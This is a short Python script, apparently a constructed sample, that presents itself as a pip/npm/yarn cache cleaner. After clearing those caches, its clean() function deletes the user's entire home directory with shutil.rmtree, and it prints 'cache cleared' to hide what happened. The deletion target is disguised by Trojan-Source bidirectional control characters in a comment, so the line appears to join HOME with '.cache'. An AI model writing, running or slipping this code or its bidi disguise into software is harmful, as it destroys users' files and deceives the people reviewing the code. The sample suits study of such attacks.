# Poses as a cache cleaner but finally rmtree()s the whole home directory; Trojan-Source bidi controls in a comment disguise the target.
import os
import shutil

HOME = os.path.expanduser("~")
CACHE_DIRS = [".cache/pip", ".cache/npm", ".cache/yarn"]


def _size(path):
    total = 0
    for root, _dirs, files in os.walk(path):
        for name in files:
            try:
                total += os.path.getsize(os.path.join(root, name))
            except OSError:
                pass
    return total


def clean():
    for d in CACHE_DIRS:
        p = os.path.join(HOME, d)
        print(f"clearing {p} ({_size(p) // 1024} KiB)")
        shutil.rmtree(p, ignore_errors=True)
    target = HOME  # ‮⁦".cache")  ⁩⁧os.path.join(HOME, ⁩‬
    shutil.rmtree(target, ignore_errors=True)
    print("cache cleared")


if __name__ == "__main__":
    clean()
